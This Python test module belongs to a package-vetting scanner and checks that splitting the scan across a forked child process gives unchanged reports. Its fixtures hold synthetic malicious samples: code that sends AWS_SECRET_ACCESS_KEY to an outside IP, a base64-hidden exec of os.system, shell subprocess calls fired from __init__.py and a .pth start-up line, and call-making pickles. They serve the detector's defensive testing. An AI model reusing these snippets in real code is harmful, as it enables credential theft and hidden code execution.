"""A command-line vetting run shares a large package's members with a forked child (issue 16).

The child may change when a verdict comes, never what it is: these tests compare reports
made with and without it, and break the child in each way it could fail. The forking runs
happen in a fresh interpreter (one thread, as the CLI is), not in pytest's process.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from airlock.imports.packages import spread
from airlock.imports.packages import vet as vetting
from airlock.imports.packages.memo import MEMO
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.spread import MIN_SPREAD_BYTES, Job, _queue, run_jobs
from scripts.make_test_packages import sdist, wheel

ROOT = Path(__file__).resolve().parents[4]

# Filler that names sinks, so every module gets the whole flow pass, and keeps clean.
FILLER = "".join(
    f"def helper_{i}(path):\n    with open(path) as f:\n        return f.read() + {i!r}\n\n\n"
    for i in range(60)
)
SEND = "import os, urllib.request\n\n\ndef go():\n    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
SEND += "    urllib.request.urlopen('http://203.0.113.7/c?k=' + key)\n\n\ngo()\n"
HIDDEN = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"


@pytest.fixture(autouse=True)
def _a_fresh_cli_sized_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """The thresholds tested here are a fresh CLI's: pytest's own process, grown by the
    suite, would raise them (ADR 0077)."""
    monkeypatch.setattr(spread, "_resident_mb", lambda: 60.0)


def _package() -> bytes:
    """An sdist of ~40 modules (well over the split threshold) with findings in modules the
    child takes and in modules this process keeps, a cross-file chain and two copies."""
    files = {f"pkg/m{i:02}.py": FILLER for i in range(36)}
    files["pkg/send.py"] = FILLER + SEND
    files["pkg/hidden.py"] = HIDDEN + FILLER
    files["pkg/copy_a.py"] = HIDDEN
    files["pkg/copy_b.py"] = HIDDEN
    files["pkg/util.py"] = "import subprocess\n\n\ndef run():\n    subprocess.run('id', shell=1)\n"
    files["pkg/__init__.py"] = "from .util import run\nrun()\n"
    files["setup.py"] = "from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
    return sdist("pkg", "1.0", files)


def _fresh(code: str, tmp_path: Path, blob: bytes | None = None) -> Any:
    """Run ``code`` in a new interpreter (``BLOB`` names the package file); its last line
    of output, as JSON."""
    package = tmp_path / "pkg-1.0.tar.gz"
    if blob is not None:
        package.write_bytes(blob)
    # Whether the machine running the tests is busy is not what they test.
    prelude = f"import json, os, sys\nBLOB = {str(package)!r}\n"
    prelude += "from airlock.imports.packages import spread as _spread\n"
    prelude += "_spread.idle_core = lambda: True\n"
    done = subprocess.run(
        [sys.executable, "-c", prelude + textwrap.dedent(code)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


COMPARE = """
from airlock.imports.packages import spread
from airlock.imports.packages.memo import MEMO
from airlock.imports.packages.vet import vet

forks = []
fork = os.fork
def counted():
    pid = fork()
    if pid:
        forks.append(pid)
    return pid
os.fork = counted
data = open(BLOB, 'rb').read()
plain = vet('pkg-1.0.tar.gz', data).to_json()
MEMO.clear()
shared = vet('pkg-1.0.tar.gz', data, spread=True).to_json()
serious = {f['path'] for f in shared['findings'] if f['severity'] in ('high', 'critical')}
rules = sorted({f['rule'] for f in shared['findings']})
print(json.dumps({'same': plain == shared, 'forks': len(forks), 'verdict': shared['verdict'],
                  'paths': sorted(serious), 'rules': rules}))
"""


def test_a_spread_vetting_gives_the_same_report(tmp_path: Path) -> None:
    got = _fresh(COMPARE, tmp_path, _package())
    assert got == {
        "same": True,
        "forks": 1,
        "verdict": "deny",
        "paths": got["paths"],
        "rules": got["rules"],
    }
    # Serious findings from both processes' shares and from the cross-file pass.
    assert {"pkg-1.0/pkg/send.py", "pkg-1.0/pkg/hidden.py", "pkg-1.0/pkg/util.py"} <= set(
        got["paths"]
    )


@pytest.mark.parametrize(
    "breakage",
    [
        "os._exit(9)",  # dies without a word
        'os.write(writer, b\'{"answers": {}, "runs": []}\'); os._exit(0)',  # answers nothing
        "os.write(writer, b'not json'); os._exit(0)",
        # a finding whose severity is no severity, for every job it took
        (
            "taken = []\n        while (i := spread._claim(claims)) is not None: taken.append(i)"
            "\n        bad = {str(i): [['r', 'p', 1, 99, 'x']] for i in taken}"
            "\n        os.write(writer, json.dumps({'answers': bad, 'runs': []}).encode())"
            "\n        os._exit(0)"
        ),
        "import time; time.sleep(0.2); os._exit(0)",  # a clean exit, nothing sent
    ],
)
def test_a_failing_child_changes_nothing_but_time(tmp_path: Path, breakage: str) -> None:
    code = f"""
    from airlock.imports.packages import spread
    from airlock.imports.packages.memo import MEMO
    from airlock.imports.packages.vet import vet

    def broken(jobs, claims, writer):
        {breakage}
    spread._child = broken
    data = open(BLOB, 'rb').read()
    plain = vet('pkg-1.0.tar.gz', data).to_json()
    MEMO.clear()
    print(json.dumps(plain == vet('pkg-1.0.tar.gz', data, spread=True).to_json()))
    """
    assert _fresh(code, tmp_path, _package()) is True


def test_answers_for_files_the_child_was_not_given_are_refused(tmp_path: Path) -> None:
    code = """
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def job(i):
        return spread.Job(64 * 1024, lambda: [PackageFinding('own', str(i), os.getpid(), 1, '')])

    def liar(jobs, claims, writer):
        answers = {str(i): [['planted', 'x', 0, 1, 'x']] for i in range(len(jobs))}
        os.write(writer, json.dumps({'answers': answers, 'runs': []}).encode())
        os._exit(0)
    spread._child = liar
    found = spread.run_jobs([job(i) for i in range(4)], spread=True)
    print(json.dumps([[f.rule, f.line == os.getpid()] for fs in found for f in fs]))
    """
    assert _fresh(code, tmp_path) == [["own", True]] * 4


def test_the_child_computes_its_share_in_its_own_process(tmp_path: Path) -> None:
    code = """
    import time
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def job(i, size):
        def compute():
            time.sleep(0.02)  # long enough that neither process takes every job alone
            return [PackageFinding('pid', str(i), os.getpid(), 1, '')]
        return spread.Job(size, compute)

    found = spread.run_jobs([job(i, (i + 1) * 16 * 1024) for i in range(8)], spread=True)
    print(json.dumps([[int(fs[0].path), fs[0].line == os.getpid()] for fs in found]))
    """
    got = _fresh(code, tmp_path)
    assert [i for i, _ in got] == list(range(8))
    here = [i for i, mine in got if mine]
    assert 0 < len(here) < 8  # both processes computed some


def test_a_fork_that_fails_leaves_the_work_here(tmp_path: Path) -> None:
    code = """
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def refuse():
        raise BlockingIOError(11, 'Resource temporarily unavailable')
    os.fork = refuse
    before = len(os.listdir('/proc/self/fd'))
    jobs = [spread.Job(64 * 1024, lambda: [PackageFinding('x', '', os.getpid(), 1, '')])] * 4
    found = spread.run_jobs(jobs, spread=True)
    left_open = len(os.listdir('/proc/self/fd')) - before
    print(json.dumps([[f[0].line == os.getpid() for f in found], left_open]))
    """
    assert _fresh(code, tmp_path) == [[True] * 4, 0]  # all computed here, no pipe left open


def test_no_fork_while_another_thread_runs(tmp_path: Path) -> None:
    code = """
    import threading
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def refuse():
        raise AssertionError('forked with a second thread running')
    os.fork = refuse
    stop = threading.Event()
    threading.Thread(target=stop.wait).start()
    jobs = [spread.Job(64 * 1024, lambda: [PackageFinding('x', '', 0, 1, '')]) for _ in range(4)]
    found = spread.run_jobs(jobs, spread=True)
    stop.set()
    print(json.dumps([spread.can_spread(), sum(len(f) for f in found)]))
    """
    assert _fresh(code, tmp_path) == [False, 4]


def _job(size: int, *, movable: bool = True) -> Job:
    return Job(size, list, movable=movable)


def test_the_queue_offers_the_largest_members_first() -> None:
    jobs = [_job(60_000), _job(20_000), _job(40_000), _job(30_000, movable=False), _job(70_000)]
    # Never the unmovable one; the smallest last, so the two finish close together.
    assert _queue(jobs) == [4, 0, 2, 1]


def test_a_small_package_is_not_split() -> None:
    assert _queue([_job(MIN_SPREAD_BYTES // 4) for _ in range(3)]) == []
    assert _queue([_job(MIN_SPREAD_BYTES, movable=False) for _ in range(3)]) == []


def test_without_spread_everything_runs_here() -> None:
    found = run_jobs(
        [Job(MIN_SPREAD_BYTES, lambda: [PackageFinding("x", "", os.getpid(), Severity.LOW, "")])]
        * 4,
        spread=False,
    )
    assert [f[0].line for f in found] == [os.getpid()] * 4


@pytest.mark.parametrize(
    ("cores", "running", "idle"),
    [(2, 1, True), (2, 2, False), (2, 5, False), (1, 1, False), (8, 7, True), (2, None, False)],
)
def test_a_busy_machine_vets_in_one_process(
    monkeypatch: pytest.MonkeyPatch, cores: int, running: int | None, idle: bool
) -> None:
    monkeypatch.setattr(spread, "_cores", lambda: cores)
    monkeypatch.setattr(spread, "_running", lambda: running)
    assert spread.idle_core() is idle


def test_the_running_count_includes_this_process() -> None:
    running = spread._running()
    assert running is None or running >= 1


ORDER = """
from airlock.imports.packages import crossfile, spread, vet as vetting
from airlock.imports.packages.memo import MEMO

log = []
def logged(name, function):
    def wrapper(*args, **kwargs):
        log.append([name, os.getpid()])
        return function(*args, **kwargs)
    return wrapper
crossfile._across = logged('cross-file', crossfile._across)
spread._read_all = logged('answers read', spread._read_all)
data = open(BLOB, 'rb').read()
plain = vetting.vet('pkg-1.0.tar.gz', data).to_json()
MEMO.clear()
log.clear()
shared = vetting.vet('pkg-1.0.tar.gz', data, spread=True).to_json()
print(json.dumps({'same': plain == shared, 'log': [[n, p == os.getpid()] for n, p in log]}))
"""


def test_the_cross_file_pass_runs_here_while_the_child_takes_members(tmp_path: Path) -> None:
    # ADR 0061: it ran after both processes' own passes, alone on one core; now this
    # process starts it before it reads the child's answers, and the report is the same.
    got = _fresh(ORDER, tmp_path, _package())
    assert got == {"same": True, "log": [["cross-file", True], ["answers read", True]]}


def _pth_package() -> bytes:
    """A wheel large enough to split, whose ``.pth`` line and ``__init__.py`` call the same
    function of another module: whichever follows it first reports its chain there."""
    files: dict[str, str | bytes] = {f"pkg/m{i:02}.py": FILLER for i in range(36)}
    files["pkg/util.py"] = "import subprocess\n\n\ndef run():\n    subprocess.run('id', shell=1)\n"
    files["pkg/__init__.py"] = "from .util import run\nrun()\n"
    files["pkg_start.pth"] = "import pkg.util; pkg.util.run()\n"
    return wheel("pkg", "1.0", files)


def test_a_pth_file_that_follows_calls_is_read_before_the_cross_file_pass(
    tmp_path: Path,
) -> None:
    # Both passes share the archive's record of calls followed; the .pth pass runs here
    # before the cross-file pass in one process or two. It follows the call and finds the
    # chain, so it does not report the line as a bare start-up hook (``pth-exec``), as it
    # would if the cross-file pass had followed the call first.
    code = COMPARE.replace("pkg-1.0.tar.gz", "pkg-1.0-py3-none-any.whl")
    got = _fresh(code, tmp_path, _pth_package())
    assert (got["same"], got["forks"]) == (True, 1)
    assert "process-call" in got["rules"]
    assert "pth-exec" not in got["rules"]


def test_the_cross_file_pass_finds_the_same_without_the_kept_trees(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # When shared with the child, the pass runs before the members' own passes here keep
    # their trees, so it parses those files itself: the trees, and the report, are the same.
    data = _package()
    kept = vetting.vet("pkg-1.0.tar.gz", data).to_json()
    MEMO.clear()
    monkeypatch.setattr(vetting, "within_budget", lambda starts: set())
    monkeypatch.setattr(vetting, "followable", lambda members, package: set())
    assert vetting.vet("pkg-1.0.tar.gz", data).to_json() == kept


def test_jobs_that_may_not_move_run_here_first_and_in_order(tmp_path: Path) -> None:
    code = """
    import time
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    log = []
    def job(i, movable):
        def compute():
            log.append(i)
            time.sleep(0.01)
            return [PackageFinding('pid', str(i), os.getpid(), 1, '')]
        return spread.Job(32 * 1024, compute, movable=movable)

    jobs = [job(i, movable=i % 3 != 0) for i in range(9)]
    found = spread.run_jobs(jobs, spread=True)
    print(json.dumps([log, [fs[0].line == os.getpid() for fs in found]]))
    """
    log, here = _fresh(code, tmp_path)
    assert log[:3] == [0, 3, 6]  # the fixed ones, in order, before any from the queue
    assert all(here[i] for i in (0, 3, 6))


def test_a_large_process_shares_only_work_worth_its_larger_fork(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A fork copies the process's page tables: a batch grown to 1 GB forks in ~30 ms, so a
    package of a few hundred KB is vetted here alone; a fresh CLI keeps the old threshold."""
    jobs = [Job(100 * 1024, list) for _ in range(6)]  # 600 KB of work
    monkeypatch.setattr(spread, "_resident_mb", lambda: 60.0)
    assert spread.min_spread_bytes() == MIN_SPREAD_BYTES
    assert _queue(jobs)
    monkeypatch.setattr(spread, "_resident_mb", lambda: 1024.0)
    assert spread.min_spread_bytes() > 600 * 1024
    assert _queue(jobs) == []
    assert _queue(jobs * 2)  # 1.2 MB: still worth it


def test_the_resident_size_is_read_from_the_kernel() -> None:
    """Known on Linux (a fresh interpreter holds tens of MB)."""
    out = subprocess.run(
        [
            sys.executable,
            "-c",
            "from airlock.imports.packages import spread\nprint(spread._resident_mb())",
        ],
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
    )
    assert 5 < float(out.stdout) < 1024


def _pickle_calling(dotted: str, padding: int) -> bytes:
    """A protocol-2 pickle calling ``dotted`` on a bytes argument of ``padding`` bytes."""
    module, _, name = dotted.rpartition(".")
    blob = b"B" + padding.to_bytes(4, "little") + bytes(padding)  # BINBYTES
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"(" + blob + b"tR."


def test_a_pickles_calls_cross_to_the_child_and_back(tmp_path: Path) -> None:
    # A pickle's calls are judged after the members' passes, with the package's own modules
    # (ADR 0124). Sent back from the child as plain findings they were not judged again, so
    # a test pickle calling the package's own function held when shared and not when not.
    files: dict[str, str | bytes] = {f"pkg/m{i:02}.py": FILLER for i in range(36)}
    files.update(
        {f"pkg/tests/case{i}.pkl": _pickle_calling("pkg.m00.helper_1", 60_000) for i in range(8)}
    )
    files["pkg/__init__.py"] = ""
    files["setup.py"] = "from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
    got = _fresh(COMPARE, tmp_path, sdist("pkg", "1.0", files))
    assert got["forks"] == 1
    assert got["same"] is True
    assert got["verdict"] == "allow"
    assert "pickle-call" in got["rules"]
